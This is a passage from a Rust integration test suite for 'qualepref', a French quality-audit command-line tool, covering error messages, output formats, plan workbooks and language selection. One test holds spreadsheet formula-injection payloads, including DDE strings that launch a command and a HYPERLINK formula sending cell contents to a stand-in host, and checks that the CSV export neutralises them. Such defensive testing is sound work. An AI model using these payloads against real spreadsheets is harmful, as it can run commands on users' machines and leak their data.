    let output = run_en(&["grid", "import", &renamed.display().to_string()], "");
    clean(&output, "grid import");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    assert!(
        stderr(&output).contains(&format!("Notes{}!A1: ", TITLE.escape_default())),
        "{}",
        stderr(&output)
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// The workbook `xlsx` with its sheet `sheet` renamed `Notes` followed by [`TITLE`].
#[track_caller]
fn rename_sheet(xlsx: &[u8], sheet: &str) -> Vec<u8> {
    use std::io::Read as _;
    let mut archive = ok(zip::ZipArchive::new(std::io::Cursor::new(xlsx)));
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for i in 0..archive.len() {
        let mut file = ok(archive.by_index(i));
        let name = file.name().to_owned();
        let mut bytes = Vec::new();
        ok(file.read_to_end(&mut bytes));
        if name == "xl/workbook.xml" {
            let text = String::from_utf8_lossy(&bytes).replace(
                &format!("name=\"{sheet}\""),
                &format!("name=\"Notes{TITLE}\""),
            );
            bytes = text.into_bytes();
        }
        ok(out.start_file(name, zip::write::SimpleFileOptions::default()));
        ok(out.write_all(&bytes));
    }
    ok(out.finish()).into_inner()
}

/// Messages name the system's reason as a user reads it, without the error number.
#[test]
fn messages_show_no_internals() {
    let output = run_en(&["validate", "no-such-audit.json"], "");
    assert_eq!(
        stderr(&output).lines().next(),
        Some("qualepref: cannot read no-such-audit.json: No such file or directory")
    );
    for args in [
        &["--referentiel", "no-such.yaml", "validate", TOULON][..],
        &["import", "no-such.txt"][..],
        &["grid", "import", "no-such.xlsx"][..],
        &["diff", TOULON, "no-such.json"][..],
        &["history", "no-such"][..],
        &["render", TOULON, "-o", "/no-such-dir/report.md"][..],
    ] {
        let output = run_en(args, "");
        assert_eq!(code(&output), Some(2), "{args:?}");
        let text = stderr(&output);
        assert!(text.starts_with("qualepref: "), "{args:?}: {text}");
        assert!(!text.contains("os error"), "{args:?}: {text}");
        assert!(text.contains("no-such"), "{args:?}: {text}");
    }
}

/// Without --format, the extension of -o chooses the format.
#[test]
fn the_format_follows_the_extension_of_the_output() {
    let dir = temp_dir("follows");
    let plan = plan_audit(&dir);
    let written = |args: &[&str], name: &str| {
        let out = dir.join(name).display().to_string();
        let mut args = args.to_vec();
        args.extend(["-o", &out]);
        let output = run(&args, samples::TOULON_2019_REPORT);
        assert_eq!(code(&output), Some(0), "{args:?}: {}", stderr(&output));
        assert_eq!(stdout(&output), "", "{args:?}");
        ok(std::fs::read(&out))
    };
    let text = |bytes: Vec<u8>| String::from_utf8_lossy(&bytes).into_owned();
    let at = ["--at", "2020-03-01"];
    let csv = text(written(&["plan", &plan, at[0], at[1]], "plan.CSV"));
    assert!(
        csv.starts_with("\u{feff}N°;Origine;Date de l'origine;"),
        "{csv}"
    );
    let json = text(written(&["plan", &plan, at[0], at[1]], "plan-out.json"));
    assert!(ok(serde_json::from_str::<Value>(&json))["totals"].is_object());
    let md = text(written(&["plan", &plan, at[0], at[1]], "plan.md"));
    assert!(
        md.starts_with("# Plan d'actions qualité au 01/03/2020\n"),
        "{md}"
    );
    let html = text(written(&["render", TOULON], "report.html"));
    assert!(html.starts_with("<!DOCTYPE html>"), "{html}");
    let report_text = text(written(&["render", TOULON], "report.txt"));
    assert!(
        !report_text.starts_with('#') && !report_text.starts_with('<'),
        "{report_text}"
    );
    let history = text(written(&["history", HISTORY, at[0], at[1]], "history.htm"));
    assert!(history.starts_with("<!DOCTYPE html>"), "{history}");
    let yaml = text(written(&["import", "-"], "audit.yml"));
    assert_eq!(ok(Audit::from_str_in(&yaml, Format::Yaml)), toulon());
    let toml = text(written(&["import", "-"], "audit.toml"));
    assert_eq!(ok(Audit::from_str_in(&toml, Format::Toml)), toulon());
    let grid = text(written(&["grid", "export", TOULON], "grid.csv"));
    assert!(grid.starts_with('\u{feff}'), "{grid}");
    assert!(written(&["grid", "export", TOULON], "grid.xlsx").starts_with(b"PK"));
    assert!(written(&["grid", "new", "--modules", "1"], "blank.xlsx").starts_with(b"PK"));
    // No extension: --format, or the default.
    let bare = text(written(&["render", TOULON, "--format", "html"], "report"));
    assert!(bare.starts_with("<!DOCTYPE html>"), "{bare}");
    let bare = text(written(&["render", TOULON], "report"));
    assert!(bare.starts_with("# "), "{bare}");
    let _ = std::fs::remove_dir_all(&dir);
}

/// A name whose extension is not the format's is refused, and nothing is written.
#[test]
fn an_extension_that_is_not_the_format_s_is_refused() {
    let dir = temp_dir("mismatch");
    let plan = plan_audit(&dir);
    let refused = |args: &[&str], name: &str, message: &str| {
        let out = dir.join(name).display().to_string();
        let mut args = args.to_vec();
        args.extend(["-o", &out]);
        let output = run_en(&args, samples::TOULON_2019_REPORT);
        assert_eq!(code(&output), Some(2), "{args:?}: {}", stderr(&output));
        assert_eq!(
            stderr(&output),
            format!("qualepref: -o {out}: {message}\n"),
            "{args:?}"
        );
        assert!(!dir.join(name).exists(), "{args:?}: {name} written");
    };
    refused(
        &["grid", "new", "--modules", "1"],
        "grid.csv",
        "grid new does not write .csv files: name the file .xlsx",
    );
    refused(
        &["grid", "new", "--modules", "1"],
        "grid.ods",
        "grid new does not write .ods files: name the file .xlsx",
    );
    refused(
        &["grid", "export", TOULON, "--format", "xlsx"],
        "grid.csv",
        "a .csv file is not what --format xlsx writes: name the file .xlsx, or leave --format \
         out to write csv",
    );
    refused(
        &["grid", "export", TOULON, "--format", "csv"],
        "grid.ods",
        "a .ods file is not what --format csv writes: name the file .csv",
    );
    refused(
        &["grid", "export", TOULON],
        "grid.ods",
        "grid export does not write .ods files: name the file .xlsx or .csv",
    );
    refused(
        &["render", TOULON],
        "report.pdf",
        "render does not write .pdf files: name the file .md, .markdown, .html, .htm, .txt, \
         .text or .docx",
    );
    refused(
        &["render", TOULON, "--format", "html"],
        "report.md",
        "a .md file is not what --format html writes: name the file .html or .htm, or leave \
         --format out to write markdown",
    );
    refused(
        &["plan", &plan, "--format", "csv"],
        "plan.txt",
        "a .txt file is not what --format csv writes: name the file .csv, or leave --format \
         out to write text",
    );
    refused(
        &["history", HISTORY, "--format", "json"],
        "history.html",
        "a .html file is not what --format json writes: name the file .json, or leave \
         --format out to write html",
    );
    refused(
        &["import", "-", "--format", "toml"],
        "audit.json",
        "a .json file is not what --format toml writes: name the file .toml, or leave \
         --format out to write json",
    );
    refused(
        &["grid", "import", "examples/data/toulon-2019.json"],
        "audit.xlsx",
        "grid import does not write .xlsx files: name the file .json, .yaml, .yml or .toml",
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// A plan whose texts start like spreadsheet formulas writes no cell that opens as one.
#[test]
fn plan_csv_writes_no_formula() {
    let dir = temp_dir("plan-formulas");
    let formulas = [
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Cliquer\")",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "=1+1",
    ];
    let mut audit = toulon_with_nc_min_on_17();
    let fiche = &mut audit.ecarts[0];
    fiche.finding = formulas[0].to_owned();
    fiche.requirement = formulas[1].to_owned();
    fiche.corrective_action = Some(formulas[2].to_owned());
    fiche.leader = Some(formulas[3].to_owned());
    let mut extra = fiche.clone();
    extra.target = qualepref::EcartTarget::Engagement(audit.assessments[17].engagement);
    extra.finding = formulas[4].to_owned();
    extra.corrective_action = Some(formulas[5].to_owned());
    extra.leader = Some(formulas[6].to_owned());
    audit.assessments[17].verdict = Some(qualepref::Verdict::MinorNonconformity);
    audit.ecarts.push(extra);
    let file = write(&dir, "formulas.json", &ok(audit.to_json_string()));
    let output = run(
        &["plan", &file, "--at", "2020-03-01", "--format", "csv"],
        "",
    );
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    let csv = stdout(&output);
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(true)
        .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let mut cells = Vec::new();
    for record in reader.records() {
        cells.extend(ok(record).iter().map(str::to_owned));
    }
    assert!(cells.len() > 40, "{csv}");
    for cell in &cells {
        // A number (days left: -12) opens as a number.
        if cell.parse::<i64>().is_err() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell opens as a formula: {cell:?}\n{csv}"
            );
        }
    }
    for formula in formulas {
        // Each formula stands in a cell of its own, neutralised, or (the requirement) after
        // the engagement's label in the « Engagement / exigence » cell.
        assert!(
            cells.contains(&format!("'{formula}"))
                || cells
                    .iter()
                    .any(|c| c.contains(&format!("\u{a0}: {formula}"))
                        && c.starts_with("Engagement")),
            "{formula:?} not written neutralised:\n{csv}"
        );
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// `validate --format json` reports a file it cannot read as a diagnostic of the same shape,
/// with its error's code, path, line and column, among the diagnostics of the files it read.
#[test]
fn validate_json_reports_an_unreadable_file_as_a_coded_diagnostic() {
    let dir = temp_dir("json-unreadable");
    let bad = write(&dir, "bad.json", "{\n  \"site\": 12\n}\n");
    let broken = write(
        &dir,
        "broken.json",
        "{\n  \"assessments\": [{\"verdict\": \"CC\"}\n",
    );
    let good = "examples/data/toulon-2019.json";
    let output = run_en(&["validate", "--format", "json", &bad, good, &broken], "");
    assert_eq!(code(&output), Some(2));
    let json: serde_json::Value = serde_json::from_str(&stdout(&output)).unwrap();
    let items = json.as_array().unwrap();
    assert_eq!(items.len(), 2, "{json:#}");
    assert_eq!(
        items[0],
        serde_json::json!({
            "file": bad,
            "code": "parse-wrong-type",
            "severity": "error",
            "path": "site",
            "message": "expected an object, found the number 12",
            "line": 2,
            "column": 12,
        })
    );
    assert_eq!(items[1]["file"], broken.as_str());
    assert_eq!(items[1]["code"], "unknown-code");
    assert_eq!(items[1]["path"], "assessments[0].verdict");
    // A missing file too.
    let output = run_en(&["validate", "--format", "json", "no/such.json"], "");
    assert_eq!(code(&output), Some(2));
    let json: serde_json::Value = serde_json::from_str(&stdout(&output)).unwrap();
    assert_eq!(json[0]["code"], "input-unreadable");
    assert_eq!(
        json[0]["message"],
        "cannot read no/such.json: No such file or directory"
    );
}

/// The quality manager's loop: the plan written as a workbook, given back with --actions and
/// written back over itself keeps its rows; history and plan take the cycle from options and
/// refuse months out of bounds; diff writes to -o.
#[test]
fn plan_actions_loop_cycle_options_and_diff_output() {
    let dir = temp_dir("plan-actions");
    let file = plan_audit(&dir);
    let kept = dir.join("paq.xlsx").display().to_string();
    let output = run(&["plan", &file, "--at", "2020-03-01", "-o", &kept], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    let output = run(
        &[
            "plan",
            &file,
            "--at",
            "2020-03-01",
            "--actions",
            &kept,
            "-o",
            &kept,
        ],
        "",
    );
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    let output = run(
        &["plan", &file, "--at", "2020-03-01", "--actions", &kept],
        "",
    );
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    assert!(
        stdout(&output).contains("5 actions, dont 1 non-conformité"),
        "{}",
        stdout(&output)
    );
    let output = run(
        &[
            "history",
            HISTORY,
            "--at",
            "2022-01-01",
            "--validity-months",
            "48",
        ],
        "",
    );
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    assert!(
        stdout(&output).contains("Cycle du label\u{a0}: 48\u{a0}mois de validité"),
        "{}",
        stdout(&output)
    );
    let output = run(&["history", HISTORY, "--follow-up-months", "0"], "");
    assert_eq!(code(&output), Some(2));
    let output = run(
        &[
            "plan",
            &file,
            "--validity-months",
            "12",
            "--follow-up-months",
            "18",
        ],
        "",
    );
    assert_eq!(code(&output), Some(2), "{}", stderr(&output));
    let out = dir.join("diff.md").display().to_string();
    let output = run(&["diff", TOULON, &file, "-o", &out], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    assert_eq!(stdout(&output), "");
    assert!(ok(std::fs::read_to_string(&out)).starts_with("# Comparaison de deux audits\n"));
    let _ = std::fs::remove_dir_all(&dir);
}

/// The language of messages: `--lang`, else the locale (English when `LC_ALL`, `LC_MESSAGES`
/// or `LANG`, the first set, starts with `en`), else French; documents follow it too.
#[test]
fn messages_speak_the_language_of_lang_or_of_the_locale() {
    let missing = |lang: Option<&str>, env: &[(&str, &str)]| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_qualepref"));
        command
            .env_remove("LC_ALL")
            .env_remove("LC_MESSAGES")
            .env_remove("LANG")
            .envs(env.iter().copied())
            .current_dir(env!("CARGO_MANIFEST_DIR"));
        if let Some(lang) = lang {
            command.args(["--lang", lang]);
        }
        let output = ok(command.args(["validate", "no-such-audit.json"]).output());
        assert_eq!(code(&output), Some(2));
        stderr(&output)
    };
    let fr = "qualepref: impossible de lire no-such-audit.json\u{a0}: No such file or directory\n";
    let en = "qualepref: cannot read no-such-audit.json: No such file or directory\n";
    assert!(missing(None, &[]).starts_with(fr), "{}", missing(None, &[]));
    assert!(missing(None, &[("LANG", "C.UTF-8")]).starts_with(fr));
    assert!(missing(None, &[("LANG", "fr_FR.UTF-8")]).starts_with(fr));
    assert!(missing(None, &[("LANG", "en_GB.UTF-8")]).starts_with(en));
    assert!(missing(None, &[("LC_ALL", "en_US.UTF-8"), ("LANG", "fr_FR.UTF-8")]).starts_with(en));
    assert!(missing(None, &[("LC_ALL", "fr_FR.UTF-8"), ("LANG", "en_US.UTF-8")]).starts_with(fr));
    assert!(missing(Some("fr"), &[("LANG", "en_US.UTF-8")]).starts_with(fr));
    assert!(missing(Some("en"), &[]).starts_with(en));
    // Validation's diagnostics and its summary follow it.
    let dir = temp_dir("lang");
    let mut audit = toulon();
    audit.auditors.clear();
    let file = write(&dir, "audit.json", &ok(audit.to_json_string()));
    let output = run(&["validate", &file], "");
    assert!(
        stdout(&output).contains(": [no-auditor] erreur\u{a0}: "),
        "{}",
        stdout(&output)
    );
    assert!(stderr(&output).starts_with("qualepref: 1 fichier\u{a0}: 0 valide(s), 1 invalide(s)"));
    let output = run(&["--lang", "en", "validate", &file], "");
    assert!(
        stdout(&output).contains(": [no-auditor] error: "),
        "{}",
        stdout(&output)
    );
    assert!(stderr(&output).starts_with("qualepref: 1 file: 0 valid, 1 invalid"));
    let output = run(&["validate", &file, "--lang", "en", "--format", "json"], "");
    let value: Value = ok(serde_json::from_str(&stdout(&output)));
    let message = value[0]["message"].as_str().unwrap_or_default();
    assert!(!message.is_empty() && message.is_ascii(), "{message}");
    let _ = std::fs::remove_dir_all(&dir);
}
